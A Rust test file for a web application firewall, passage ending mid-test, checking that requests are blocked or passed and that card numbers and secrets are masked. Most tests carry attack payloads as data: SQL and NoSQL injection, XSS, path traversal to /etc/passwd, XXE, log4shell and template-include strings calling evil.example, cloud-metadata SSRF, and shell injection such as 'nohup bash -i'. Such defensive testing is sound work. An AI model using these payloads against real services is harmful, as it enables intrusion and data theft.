use std::net::{IpAddr, Ipv4Addr};

use http::{HeaderMap, HeaderName, HeaderValue};
use portcullis_config::{WafMode, WafSpec};
use portcullis_core::RequestView;

use super::*;

fn headers(list: &[(&str, &str)]) -> HeaderMap {
    let mut h = HeaderMap::new();
    for (k, v) in list {
        h.append(
            HeaderName::from_bytes(k.as_bytes()).unwrap(),
            HeaderValue::from_str(v).unwrap(),
        );
    }
    h
}

fn view<'a>(method: &'a str, target: &'a str, h: &'a HeaderMap) -> RequestView<'a> {
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (target, None),
    };
    RequestView {
        method,
        path,
        query,
        host: Some("api.example.com"),
        headers: h,
        client_ip: IpAddr::V4(Ipv4Addr::LOCALHOST),
        route: "r",
    }
}

fn waf() -> Waf {
    Waf::from_spec(&WafSpec::default()).unwrap()
}

fn get(w: &Waf, target: &str) -> Result<Findings, Deny> {
    let h = headers(&[("user-agent", "curl/8")]);
    w.check_head(&view("GET", target, &h))
}

fn post(w: &Waf, ct: &str, body: &str) -> Result<Findings, Deny> {
    let h = headers(&[
        ("content-type", ct),
        ("content-length", &body.len().to_string()),
    ]);
    let req = view("POST", "/api/items", &h);
    let head = w.check_head(&req)?;
    w.check_body(&req, &head, body.as_bytes(), false)
}

#[test]
fn blocks_sql_injection_in_a_query_argument_and_names_rule_and_target() {
    let deny = get(&waf(), "/search?q=1%27%20OR%20%271%27%3D%271").unwrap_err();
    assert_eq!(deny.status, 403);
    assert_eq!(deny.reason, "waf_blocked");
    let detail = deny.log_detail.unwrap();
    assert!(detail.contains("200001@args:q"), "{detail}");
}

#[test]
fn passes_ordinary_api_requests() {
    let w = waf();
    assert!(get(&w, "/users/42?name=O%27Brien&sort=desc&page=2").is_ok());
    assert!(get(&w, "/menu?text=select+your+plan+from+the+menu").is_ok());
    assert!(post(
        &w,
        "application/json",
        r#"{"name":"Mary O'Neil","note":"drop by at 5; update me"}"#
    )
    .is_ok());
    assert!(post(
        &w,
        "application/x-www-form-urlencoded",
        "comment=I+%3C3+this+%26+that&rating=5"
    )
    .is_ok());
}

#[test]
fn blocks_attacks_in_every_body_kind() {
    let w = waf();
    assert!(post(
        &w,
        "application/json",
        r#"{"user":{"bio":"<img src=x onerror=alert(1)>"}}"#
    )
    .is_err());
    assert!(post(
        &w,
        "application/x-www-form-urlencoded",
        "file=..%2F..%2F..%2Fetc%2Fpasswd"
    )
    .is_err());
    let mp = "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n; cat /etc/passwd\r\n--XyZ--\r\n";
    assert!(post(&w, "multipart/form-data; boundary=XyZ", mp).is_err());
    let xml = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>";
    assert!(post(&w, "application/xml", xml).is_err());
    assert!(post(
        &w,
        "application/json",
        r#"{"username":{"$ne":null},"password":{"$ne":null}}"#
    )
    .is_err());
}

#[test]
fn blocks_signature_categories() {
    let w = waf();
    for (what, target) in [
        (
            "log4shell",
            "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        ),
        (
            "ssrf",
            "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        ),
        ("ssti", "/greet?name=%7B%7B7*7%7D%7D"),
        ("rce", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
        ("crlf", "/r?next=%0d%0aSet-Cookie%3A%20a%3Db"),
        ("php", "/p?x=%3C%3Fphp%20system(%27id%27)%3B"),
        ("traversal in path", "/static/..%252f..%252fetc/passwd"),
        (
            "overlong traversal",
            "/files?p=%c0%ae%c0%ae%2f%c0%ae%c0%ae%2fboot.ini",
        ),
    ] {
        assert!(get(&w, target).is_err(), "{what} passed");
    }
}

#[test]
fn inspects_base64_encoded_values() {
    // "<script>alert(1)</script>" base64-encoded.
    assert!(get(&waf(), "/?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D").is_err());
}

#[test]
fn detect_mode_reports_without_blocking() {
    let spec = WafSpec {
        mode: WafMode::Detect,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    let f = get(&w, "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").unwrap();
    assert!(f.score >= 5);
    assert_eq!(f.hits[0].category, "xss");
    assert_eq!(f.hits[0].target, "args:q");
    assert!(f.hits[0].fragment.contains("<script>"));
}

#[test]
fn off_mode_inspects_nothing() {
    let spec = WafSpec {
        mode: WafMode::Off,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert_eq!(get(&w, "/?q=%3Cscript%3E").unwrap(), Findings::default());
    assert_eq!(w.body_inspect_limit(), 0);
}

#[test]
fn exclusion_for_one_target_allows_html_in_that_field_only() {
    let spec = WafSpec {
        exclusions: vec![(rules::XSS.id, Some("body:html".to_owned()))],
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert!(post(&w, "application/json", r#"{"html":"<svg onload=x()>"}"#).is_ok());
    assert!(post(&w, "application/json", r#"{"title":"<svg onload=x()>"}"#).is_err());
}

#[test]
fn exclusion_of_a_kind_covers_every_name_of_that_kind() {
    let spec = WafSpec {
        exclusions: vec![(rules::SQLI.id, Some("args".to_owned()))],
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert!(get(&w, "/?a=1%20union%20select%201,2").is_ok());
}

#[test]
fn never_logs_cookie_values() {
    let spec = WafSpec {
        mode: WafMode::Detect,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    let h = headers(&[("cookie", "sid=1' or '1'='1")]);
    let f = w.check_head(&view("GET", "/", &h)).unwrap();
    assert_eq!(f.hits[0].target, "cookie:sid");
    assert!(f.hits[0].fragment.is_empty());
}

#[test]
fn limits_answer_with_their_own_status() {
    let spec = WafSpec {
        limit_uri_bytes: 16,
        limit_json_depth: 2,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert_eq!(get(&w, "/a/very/long/path/indeed").unwrap_err().status, 414);
    assert_eq!(
        post(&w, "application/json", r#"{"a":{"b":{"c":{"d":1}}}}"#)
            .unwrap_err()
            .reason,
        "waf_json_limits"
    );
    let h: Vec<(String, String)> = (0..120)
        .map(|i| (format!("x-h{i}"), "v".to_owned()))
        .collect();
    let refs: Vec<(&str, &str)> = h.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    let hm = headers(&refs);
    assert_eq!(
        waf().check_head(&view("GET", "/", &hm)).unwrap_err().status,
        431
    );
}

#[test]
fn oversize_bodies_are_rejected_only_when_configured() {
    let spec = WafSpec {
        reject_oversize_body: true,
        body_inspect_bytes: 8,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert!(w.reject_oversize_body());
    let h = headers(&[("content-type", "text/plain")]);
    let req = view("POST", "/", &h);
    let d = w
        .check_body(&req, &Findings::default(), b"0123456789", true)
        .unwrap_err();
    assert_eq!(d.status, 413);
    assert!(!waf().reject_oversize_body());
}

#[test]
fn flags_conflicting_framing_headers() {
    let h = headers(&[("content-length", "4"), ("transfer-encoding", "chunked")]);
    let d = waf().check_head(&view("POST", "/", &h)).unwrap_err();
    assert!(d.log_detail.unwrap().contains("100004"));
}

#[test]
fn positive_model_names_what_failed() {
    let mut params = std::collections::BTreeMap::new();
    params.insert("id".to_owned(), "integer".to_owned());
    let spec = WafSpec {
        positive_methods: Some(vec!["GET".to_owned(), "POST".to_owned()]),
        positive_params: Some(params),
        positive_content_types: Some(vec!["application/json".to_owned()]),
        positive_body_schema: Some(serde_json::json!({
            "type": "object", "required": ["name"], "additionalProperties": false,
            "properties": { "name": { "type": "string", "maxLength": 10 } }
        })),
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert!(get(&w, "/?id=12").is_ok());
    let d = get(&w, "/?id=abc").unwrap_err();
    assert_eq!(d.reason, "waf_positive_model");
    assert!(d.message.contains("parameter id"), "{}", d.message);
    assert!(get(&w, "/?debug=1").unwrap_err().message.contains("debug"));
    let h = HeaderMap::new();
    assert!(w
        .check_head(&view("DELETE", "/", &h))
        .unwrap_err()
        .message
        .contains("DELETE"));
    assert!(post(&w, "application/json", r#"{"name":"ok"}"#).is_ok());
    assert!(
        post(&w, "application/json", r#"{"name":"ok","admin":true}"#)
            .unwrap_err()
            .message
            .contains("admin")
    );
    assert!(post(&w, "text/plain", "hi")
        .unwrap_err()
        .message
        .contains("text/plain"));
}

#[test]
fn dlp_masks_luhn_valid_cards_and_keeps_the_last_four() {
    let spec = WafSpec {
        dlp_inspect_bytes: 4096,
        dlp_cards: true,
        dlp_secrets: true,
        dlp_national_ids: true,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert_eq!(w.response_inspect_limit(), 4096);
    let body = br#"{"card":"4111 1111 1111 1111","order":"1234567890123"}"#;
    match w.inspect_response(Some("application/json"), body) {
        DlpOutcome::Masked(b) => {
            let s = String::from_utf8(b).unwrap();
            assert!(s.contains("**** **** **** 1111"), "{s}");
            assert!(s.contains("1234567890123"), "{s}");
            assert_eq!(s.len(), body.len());
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        w.inspect_response(Some("text/plain"), b"nothing here 12345"),
        DlpOutcome::Pass
    );
}

#[test]
fn dlp_blocks_secrets_when_configured() {
    let spec = WafSpec {
        dlp_inspect_bytes: 4096,
        dlp_secrets: true,
        dlp_block: true,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    match w.inspect_response(None, b"key: AKIAABCDEFGHIJKLMNOP") {
        DlpOutcome::Block(d) => {
            assert_eq!(d.status, 502);
            assert!(!d.log_detail.unwrap().contains("AKIA"));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn every_rule_id_is_unique() {
    let mut ids: Vec<u32> = rules::catalogue().iter().map(|r| r.id).collect();
    let n = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), n);
}

fn blocked(r: Result<Findings, Deny>, rule: &str) {
    let deny = r.unwrap_err();
    let detail = deny.log_detail.unwrap_or_default();
    assert!(detail.contains(rule), "expected {rule} in {detail}");
}

fn multipart(boundary: &str, parts: &[(&str, &str, &str)]) -> String {
    let mut b = String::new();
    for (disposition, extra, content) in parts {
        b.push_str(&format!(
            "--{boundary}\r\nContent-Disposition: form-data; {disposition}\r\n{extra}\r\n{content}\r\n"
        ));
    }
    b.push_str(&format!("--{boundary}--\r\n"));
    b
}

#[test]
fn multipart_boundary_keeps_its_case() {
    let w = waf();
    let ct = "multipart/form-data; boundary=XyZzyMixedCase42";
    let ok = multipart(
        "XyZzyMixedCase42",
        &[
            (
                "name=\"title\"",
                "Content-Type: text/plain; charset=utf-8\r\n",
                "Holiday photos",
            ),
            (
                "name=\"doc\"; filename=\"Acme.Inc.report.pdf\"",
                "",
                "%PDF-1.7",
            ),
        ],
    );
    assert!(post(&w, ct, &ok).is_ok());
    let bad = multipart(
        "XyZzyMixedCase42",
        &[("name=\"title\"", "", "<script>steal()</script>")],
    );
    blocked(post(&w, ct, &bad), "210001@body:title");
}

#[test]
fn multipart_flags_script_uploads_hidden_charsets_and_ambiguous_names() {
    let w = waf();
    let ct = "multipart/form-data; boundary=b0undary";
    let upload = multipart(
        "b0undary",
        &[("name=\"f\"; filename=\"avatar.php.png\"", "", "GIF89a")],
    );
    blocked(post(&w, ct, &upload), "250007@body:filename");
    let utf7 = multipart(
        "b0undary",
        &[(
            "name=\"c\"",
            "Content-Type: text/plain; charset=UTF-7\r\n",
            "+ADw-b+AD4-",
        )],
    );
    blocked(post(&w, ct, &utf7), "100016");
    let ambiguous = multipart("b0undary", &[("name=\"a;b\"", "", "x")]);
    blocked(post(&w, ct, &ambiguous), "100012");
    let entity = multipart("b0undary", &[("name=\"caf&eacute;\"", "", "x")]);
    assert!(post(&w, ct, &entity).is_ok());
    let h = headers(&[("user-agent", "up/1"), ("x-file-name", "run.phtml")]);
    blocked(
        w.check_head(&view("PUT", "/files", &h)),
        "250007@header:x-file-name",
    );
}

#[test]
fn blocks_ldap_mail_ssi_oast_and_windows_shell_injection() {
    let w = waf();
    blocked(get(&w, "/dir?user=admin)(%7C(cn%3D*"), "350001@args:user");
    blocked(
        get(&w, "/contact?subject=hi%0D%0ABcc:%20victim@example.net"),
        "290003@args:subject",
    );
    blocked(
        get(&w, "/p?t=%3C!--%23include%20virtual%3D%22/x%22--%3E"),
        "240007@args:t",
    );
    blocked(get(&w, "/cb?u=http://a1b2.oastify.com/x"), "360001@args:u");
    blocked(
        get(
            &w,
            "/run?c=for%20/f%20%22tokens=1%22%20%25a%20in%20(%27whoami%27)%20do%20echo%20%25a",
        ),
        "240008@args:c",
    );
    blocked(
        get(&w, "/run?c=if%20%25x%25%20equ%201%20del%20y"),
        "240008@args:c",
    );
    blocked(get(&w, "/f?p=/etc/pa%5Bs%5Dswd"), "240009@args:p");
    blocked(get(&w, "/run?c=nohup%20bash%20-i"), "240010@args:c");
    blocked(get(&w, "/run?c=x;cd%20/tmp"), "240001@args:c");
}

#[test]
fn blocks_code_injection_variants() {
    let w = waf();
    blocked(get(&w, "/x?a=(passthru)(%27ls%27)"), "250006@args:a");
    blocked(get(&w, "/x?a=%24__%5B_%5D(1)"), "250003@args:a");
    blocked(get(&w, "/x?a=process.env.SECRET"), "340001@args:a");
    blocked(
        get(&w, "/x?id=x%27::jsonb%20%40%3E%20%27%7B%7D%27"),
        "200002@args:id",
    );
    blocked(get(&w, "/x?q=prompt.call(window,1)"), "210001@args:q");
    blocked(get(&w, "/x?q=(confirm)(9)"), "210001@args:q");
    blocked(
        get(&w, "/x?q=__schema%7Btypes%7Bname%7D%7D"),
        "370001@args:q",
    );
    blocked(get(&w, "/x?q=while(!0)%3B"), "340003@args:q");
    blocked(get(&w, "/x?q=information_schema.columns"), "200003@args:q");
    blocked(get(&w, "/x?q=opcache.enable%3D0"), "250005@args:q");
    blocked(
        get(&w, "/x?q=(%22pass%22.%22thru%22)(%22id%22)"),
        "250008@args:q",
    );
    blocked(get(&w, "/backup/site.sql"), "220005@path");
    blocked(get(&w, "/static/proc/meminfo"), "220005@path");
    blocked(
        get(
            &w,
            "/x?d=%7B%22a%22%3A%22%241%3Aconstructor%3Aconstructor%22%7D",
        ),
        "340001@args:d",
    );
    let h = headers(&[("x-filename", "web.config")]);
    blocked(
        w.check_head(&view("PUT", "/u", &h)),
        "250007@header:x-filename",
    );
}

#[test]
fn decodes_base64_path_segments() {
    use base64::Engine as _;
    let seg = base64::engine::general_purpose::STANDARD_NO_PAD.encode("<svg onload=go(1)>");
    blocked(get(&waf(), &format!("/api/{seg}")), "210001@path");
    // Short unpadded values, and `+` turned into a space by form decoding, still decode.
    let short = base64::engine::general_purpose::STANDARD_NO_PAD.encode("(prompt)(2)");
    blocked(get(&waf(), &format!("/x?v={short}")), "210001@args:v");
    let plus = base64::engine::general_purpose::STANDARD.encode("<a href=javascript:go()>>>?");
    assert!(plus.contains('+'), "{plus}");
    blocked(
        post(
            &waf(),
            "application/x-www-form-urlencoded",
            &format!("v={plus}"),
        ),
        "210001@body:v",
    );
    // Ids and hashes that happen to be base64 alphabet stay harmless.
    assert!(get(&waf(), "/api/users/Q2xhcmFCZWxsQ29tcGFueQ").is_ok());
}

#[test]
fn rejects_remote_schema_references_and_utf7_xml() {
    let w = waf();
    let xml = r#"<?xml version="1.0"?><order xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://schemas.example.net/o.xsd"><id>1</id></order>"#;
    blocked(post(&w, "application/xml", xml), "310001@xml");
    let utf7 = "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-b+AD4-</a>";
    blocked(post(&w, "text/xml", utf7), "310001@xml");
    let plain = r#"<?xml version="1.0"?><order><id>7</id><note>ship by noon</note></order>"#;
    assert!(post(&w, "application/xml", plain).is_ok());
}

#[test]
fn session_ids_in_arguments_need_a_foreign_or_missing_referer() {
    let w = waf();
    blocked(
        get(&w, "/login?jsessionid=4F2A9C"),
        "320002@args:jsessionid",
    );
    let same = headers(&[("referer", "https://api.example.com/cart")]);
    assert!(w
        .check_head(&view("GET", "/login?jsessionid=4F2A9C", &same))
        .is_ok());
    let foreign = headers(&[("referer", "https://elsewhere.example.org/")]);
    blocked(
        w.check_head(&view("GET", "/login?shop_session=eyJ4", &foreign)),
        "320002@args:shop_session",
    );
}

#[test]
fn protocol_checks_cover_request_range_and_charsets() {
    let w = waf();
    let h = headers(&[("request-range", "bytes=0-1")]);
    blocked(w.check_head(&view("GET", "/f.bin", &h)), "100015");
    let h = headers(&[(
        "content-type",
        "application/x-www-form-urlencoded; charset=ebcdic-x",
    )]);
    blocked(w.check_head(&view("POST", "/f", &h)), "100011");
    let h = headers(&[("content-type", "application/vnd.api+json; charset=utf-8")]);
    assert!(w.check_head(&view("POST", "/f", &h)).is_ok());
    let h = headers(&[("content-type", "application/*+json")]);
    assert!(w.check_head(&view("POST", "/f", &h)).is_ok());
}

#[test]
fn passes_near_misses_of_the_new_signatures() {
    let w = waf();
    for q in [
        "note=buy+2%3B+cd+player+included",
        "note=meeting+moved%3B+time+is+short",
        "note=discount+for+10%25+in+(most)+stores",
        "host=localhost",
        "note=Smith+(cn)+and+Jones+(mail)+signed",
        "note=Confirm+(yes%2Fno)",
        "note=the+document%5B1%5D+section",
        "note=a+new+function+(see+below)",
        "note=use+%60npm+test%60+before+pushing",
        "filter=%7B%22%24existsor%22%3A1%7D",
        "name=O%27Brien&title=Select+the+best+option+from+our+catalogue",
        "note=keep+going+while+(true)+love+lasts",
        "cb=https%3A%2F%2Fapp.example.com%2Fdone%3Ferror%3Daccess_denied",
        "note=the+information+schema+chapter",
        "id=AbCdEfGh1234&ref=Hello+World+Again&tok=ZmFzdGVyIHRoYW4gbGlnaHQ",
    ] {
        let r = get(&w, &format!("/q?{q}"));
        assert!(r.is_ok(), "{q}: {:?}", r.err().and_then(|d| d.log_detail));
    }
    let h = headers(&[("referer", "http://localhost:3000/dev")]);
    assert!(w
        .check_head(&view("GET", "/docs/.well-known/x", &h))
        .is_ok());
    blocked(get(&w, "/app/.claude/settings.json"), "220004@path");
}

#[test]
fn survives_arbitrary_bytes_in_every_target() {
    // Deterministic xorshift so a failure reproduces; fragments steer inputs into the parsers'
    // edge cases (quotes, entities, comments, boundaries, escapes, truncated UTF-8).
    const FRAGMENTS: &[&str] = &[
        "\"",
        "'",
        "`",
        "&#x3c;",
        "&amp;",
        "/*",
        "*/",
        "--",
        "\r\n",
        "\r\n\r\n",
        "%",
        "%2",
        "%u00",
        "\\x3",
        "\\u00",
        "<",
        ">",
        "=",
        ";",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "$",
        "on",
        "xml",
        "<!DOCTYPE",
        "charset=",
        "Content-Disposition: form-data; name=\"",
        "--b\r\n",
        "é",
        "\u{fffd}",
    ];
    let w = Waf::from_spec(&WafSpec {
        mode: WafMode::Detect,
        ..WafSpec::default()
    })
    .unwrap();
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for _ in 0..400 {
        let mut bytes = Vec::new();
        for _ in 0..(next() % 24) {
            if next() % 3 == 0 {
                bytes.push((next() % 256) as u8);
            } else {
                let f = FRAGMENTS[(next() as usize) % FRAGMENTS.len()];
                bytes.extend_from_slice(f.as_bytes());
            }
        }
        let text = String::from_utf8_lossy(&bytes);
        let query: String = text
            .chars()
            .filter(|c| c.is_ascii_graphic() && *c != '#')
            .collect();
        let _ = get(&w, &format!("/p/{}?a={query}", query.replace('?', "")));
        for ct in [
            "application/json",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=b",
            "text/plain",
        ] {
            let h = headers(&[("content-type", ct)]);
            let req = view("POST", "/p", &h);
            let head = w.check_head(&req).unwrap();
            let _ = w.check_body(&req, &head, &bytes, next() % 2 == 0);
        }
    }
}

fn get_with(w: &Waf, target: &str, extra: &[(&str, &str)]) -> Result<Findings, Deny> {
    let mut list = vec![("user-agent", "curl/8")];
    list.extend_from_slice(extra);
    let h = headers(&list);
    w.check_head(&view("GET", target, &h))
}

#[test]
fn shell_words_count_only_in_a_shell_context() {
    let w = waf();
    // Tools with no other meaning, at the start of a value.
    blocked(get(&w, "/x?q=ifconfig%20-a"), "240011");
    blocked(get(&w, "/x?q=ansible-vault%20view%20prod.yml"), "240011");
    blocked(get(&w, "/x?q=python3.12%20exploit.py"), "240011");
    // English words need a separator and argument syntax.
    blocked(get(&w, "/x?q=a%3Bfind%20/home%20-name%20id_rsa"), "240012");
    blocked(get(&w, "/x?q=x%7Calias%20ll%3D%27rm%20-rf%27"), "240012");
    blocked(
        get(&w, "/x?q=report.pdf%3Btar%20-czf%20/tmp/o.tgz%20/srv"),
        "240001",
    );
    // Expansion syntax, here-strings, history and bin paths.
    blocked(get(&w, "/x?q=%24%7BHOME%23%23*/%7D"), "240013");
    blocked(get(&w, "/x?q=cat%3C%3C%3C%27uname%27"), "240013");
    blocked(get(&w, "/x?q=%7E%2B"), "240013");
    blocked(get(&w, "/x?q=%3B/usr/bin/id"), "240014");
    blocked(get(&w, "/x?q=c%7Bu,x%7Drl"), "240015");
    // Prose that mentions commands passes.
    assert!(get(&w, "/x?q=find%20the%20time%20to%20set%20the%20table").is_ok());
    assert!(get(&w, "/x?q=my%20cat%20and%20I%3B%20who%20knew").is_ok());
    assert!(get(&w, "/x?q=ls%20400%20sedan").is_ok());
    assert!(get(&w, "/x?q=recycle%20bin/old%20photos").is_ok());
    assert!(get(&w, "/x?q=pick%20%7Bred,green%7D%20shirts").is_ok());
    assert!(get(&w, "/x?tags=python").is_ok());
    assert!(get(&w, "/x?uname=jane%20roe").is_ok());
}

#[test]
fn php_calls_hidden_by_comments_variables_or_pieces_are_caught() {
    let w = waf();
    blocked(
        get(&w, "/x?c=%24fn%20/*x*/%20%5B0%5D%20(%27id%27)"),
        "250010",
    );
    blocked(get(&w, "/x?c=(%27pass%27.%27thru%27)(%27id%27)"), "250008");
    blocked(get(&w, "/x?c=%5Bsystem%5D%5B0%5D(ls)"), "250010");
    blocked(get(&w, "/x?c=strrev%20/*a*/%20(%27x%27)"), "250011");
    blocked(get(&w, "/x?c=%24%20%7B%27a%27%7D"), "250003");
    blocked(get(&w, "/x?c=memory_limit%3D1G"), "250005");
    blocked(get(&w, "/x?c=gzinflate(%24d)"), "250009");
    // Not calls: empty index, empty braces, prose with one space before a bracket.
    assert!(get(&w, "/x?c=%24a%5B%5D()").is_ok());
    assert!(get(&w, "/x?c=%24%7B%7D()").is_ok());
    assert!(get(&w, "/x?c=unpack%20(the%20boxes)").is_ok());
    assert!(get(&w, "/x?c=costs%20%245%20(approx)").is_ok());
}

#[test]
fn sql_function_calls_need_an_sql_context() {
    let w = waf();
    blocked(get(&w, "/x?id=ifnull(1,2)"), "200004");
    blocked(get(&w, "/x?id=1%27%20and%20char(58)"), "200004");
    blocked(get(&w, "/x?id=ascii(substr(pw,1,1))%3E64"), "200004");
    blocked(get(&w, "/x?id=md5(x)::int"), "200005");
    blocked(get(&w, "/x?id=1%20/*!50000union*/"), "200005");
    blocked(
        get(&w, "/x?id=%27%7B%22k%22:1%7D%27%20-%3E%20%27$.k%27"),
        "200005",
    );
    blocked(get(&w, "/x?login=eve%40corp.example%27%3B"), "200005");
    // Names that are English words, O'Brien, and a CSV of field names pass.
    assert!(get(&w, "/x?q=User(admin),Group(ops)").is_ok());
    assert!(get(&w, "/x?q=trim%20(the%20hedge)").is_ok());
    assert!(get(&w, "/x?name=O%27Brien%3B").is_ok());
    assert!(get(&w, "/x?q=select%20a%20size%20from%20the%20list").is_ok());
    assert!(get(&w, "/x?q=Die%20%22Union%20von%20Europa%22").is_ok());
    blocked(get(&w, "/x?q=x%27%3Bselect%20pw%20from%20u"), "2000");
}

#[test]
fn script_without_tags_is_caught_and_markdown_is_not() {
    let w = waf();
    blocked(get(&w, "/x?s=ja%26tab%3Bvascript%3Aalert(1)"), "210003");
    blocked(get(&w, "/x?s=a%20style%3Dx%3Aurl(javascript"), "210002");
    blocked(get(&w, "/x?s=%22%20onfocus%3Dx"), "210002");
    blocked(get(&w, "/x?s=%3Cs%20c%20r%20i%20p%20t"), "210002");
    blocked(get(&w, "/x?s=%2BADw-img%2BAD4-"), "210002");
    blocked(get(&w, "/x?s=(!%5B%5D%2B%5B%5D)"), "210002");
    blocked(get(&w, "/x?s=%5B%5D.map.call%60x%60"), "210002");
    assert!(get(&w, "/x?s=!%5B%5D(logo.png)%20our%20logo").is_ok());
    assert!(get(&w, "/x?s=turn%20on%20load%20balancing").is_ok());
    assert!(get(&w, "/x?s=javascript%3A%20the%20good%20parts").is_ok());
    // HTML in a JSON field the route allows through an exclusion still passes there only.
    let spec = WafSpec {
        exclusions: vec![(210_001, Some("body:html".to_owned()))],
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    assert!(post(
        &w,
        "application/json",
        r#"{"html":"<p onclick=go()>x</p>"}"#
    )
    .is_ok());
    assert!(post(
        &w,
        "application/json",
        r#"{"title":"<p onclick=go()>x</p>"}"#
    )
    .is_err());
}

#[test]
fn protocol_anomalies_that_split_parsers_are_flagged() {
    let w = waf();
    blocked(get(&w, "/x?a=%c0%af"), "100025");
    blocked(get(&w, "/x?a=%uff0e%uff0e"), "100021");
    blocked(get(&w, "\\windows\\x"), "100019");
    blocked(
        get_with(&w, "/", &[("connection", "close, keep-alive")]),
        "100022",
    );
    blocked(get_with(&w, "/", &[("range", "bytes=9-3")]), "100018");
    blocked(get_with(&w, "/", &[("content-encoding", "gzip")]), "100023");
    blocked(
        get_with(&w, "/", &[("x-note", "a%0d%0aSet-Cookie: s=1")]),
        "290004",
    );
    let h = headers(&[("content-length", "5"), ("content-type", "")]);
    blocked(w.check_head(&view("POST", "/x", &h)), "100017");
    let h = headers(&[("content-type", "text/plain; junk")]);
    blocked(w.check_head(&view("GET", "/x", &h)), "100011");
    let h = headers(&[(
        "content-type",
        "application/x-www-form-urlencoded; boundary=\"application/json\"",
    )]);
    blocked(w.check_head(&view("POST", "/x", &h)), "100011");
    // Latin-1 bytes, valid ranges, a single Connection option and a JSON search GET pass.
    assert!(get(&w, "/x?city=M%FCnchen").is_ok());
    assert!(get_with(&w, "/", &[("range", "bytes=0-99,200-")]).is_ok());
    assert!(get_with(&w, "/", &[("connection", "keep-alive")]).is_ok());
    assert!(get_with(&w, "/", &[("content-encoding", "identity")]).is_ok());
}

#[test]
fn names_with_line_breaks_include_urls_and_session_tokens_are_flagged() {
    let w = waf();
    blocked(get(&w, "/x?a%0d%0aX-Injected=1"), "290004");
    blocked(get(&w, "/x?tpl_path=https://evil.example/x.txt"), "230004");
    blocked(
        get_with(
            &w,
            "/login?myapp.session-token=abc",
            &[("referer", "https://elsewhere.example/")],
        ),
        "320002",
    );
    assert!(get(&w, "/x?next=https://shop.example/cart").is_ok());
    assert!(get(&w, "/x?possession=ball").is_ok());
}

#[test]
fn xml_attribute_values_are_entity_decoded_and_quote_aware() {
    let w = waf();
    blocked(
        post(&w, "application/xml", r#"<r><a v="it's ${'x'}"/></r>"#),
        "250003",
    );
    blocked(
        post(
            &w,
            "application/xml",
            "<r><b v='ja&#x09;vascript:go()'/></r>",
        ),
        "210003",
    );
    assert!(post(&w, "application/xml", r#"<r a="O'Brien" b='say "hi"'/>"#).is_ok());
}

#[test]
fn script_upload_names_with_spaces_and_versions_are_caught() {
    assert!(script_file_name("photo. php"));
    assert!(script_file_name("x.php7"));
    assert!(script_file_name("t.phpt"));
    assert!(!script_file_name("php-logo.png"));
    assert!(!script_file_name("notes.phpbb.txt"));
}

#[test]
fn code_ssrf_and_parser_dos_signatures_have_benign_neighbours() {
    let w = waf();
    blocked(get(&w, "/x?u=data:text/html,%3Cb%3Ehi"), "270004");
    blocked(get(&w, "/x?u=http:/127.0.0.1/admin"), "270004");
    blocked(get(&w, "/x?u=localhost.localdomain/"), "270003");
    blocked(get(&w, "/x?js=console%5B%27log%27%5D(1)"), "340004");
    blocked(get(&w, "/x?js=process%5B%27env%27%5D"), "340004");
    blocked(get(&w, "/x?n=2.2250738585072011e-308"), "380001");
    blocked(get(&w, "/x?q=Java.Runtime"), "280002");
    blocked(get(&w, "/x?p=%3C%3F%20php%20echo%201"), "250001");
    // An image data URL, a number that is merely large, prose about functions and consoles.
    assert!(get(&w, "/x?avatar=data:image/png;base64,iVBORw0KGgo=").is_ok());
    assert!(get(&w, "/x?n=4294967295").is_ok());
    assert!(get(&w, "/x?q=the%20game%20console%20(2020)").is_ok());
    assert!(get(&w, "/x?q=a%20new%20function%20(see%20below)").is_ok());
    assert!(get(&w, "/x?q=localhost%20is%20where%20I%20test").is_ok());
}

#[test]
fn a_repeated_field_counts_once_per_target_and_still_fires_elsewhere() {
    let spec = WafSpec {
        mode: WafMode::Detect,
        ..WafSpec::default()
    };
    let w = Waf::from_spec(&spec).unwrap();
    let attack = "1 union select name, pass from users";
    let body = format!(
        r#"{{"items":[{{"q":"{attack}","n":"ok"}},{{"q":"{attack}","n":"ok"}}],"other":"{attack}"}}"#
    );
    let f = post(&w, "application/json", &body).unwrap();
    let mut sqli: Vec<&str> = f
        .hits
        .iter()
        .filter(|h| h.rule_id == rules::SQLI.id)
        .map(|h| h.target.as_str())
        .collect();
    sqli.sort_unstable();
    assert_eq!(sqli, ["body:items.q", "body:other"]);
    // The same value under a key seen before with a benign value is still scanned.
